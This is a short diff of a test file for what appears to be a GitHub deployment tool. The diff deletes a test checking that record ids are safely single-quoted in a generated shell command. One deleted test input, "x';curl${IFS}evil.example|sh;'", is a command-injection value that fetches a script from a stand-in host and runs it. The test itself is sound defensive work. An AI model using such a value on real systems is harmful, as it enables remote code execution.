@@ -92,20 +92,6 @@ describe.each(urls.filter((_, index) => allCases || index % 3 === 0))(
   },
 );
 
-test.each(["x';curl${IFS}evil.example|sh;'", "`curl`", "--help", "@octocat"])(
-  "the command that releases a record has the id %j in single quotes",
-  async (id) => {
-    await world.step(production);
-    const [record] = world.github.state.records;
-    for (const status of record?.statuses ?? []) Object.assign(status, { description: `deployed id=${id}` });
-    const run = await world.step(production);
-    expect(run.outputs["outcome"]).toBe("not-sent");
-    expect(run.log).toContain(
-      `-f description='gone id=${id.replaceAll("'", "'\\''")}' -F auto_inactive=false`,
-    );
-  },
-);
-
 test.each(urls)("the address %j of a Deployment links to no other host", async (url) => {
   world.service.inject({
     operation: "create-deployment",
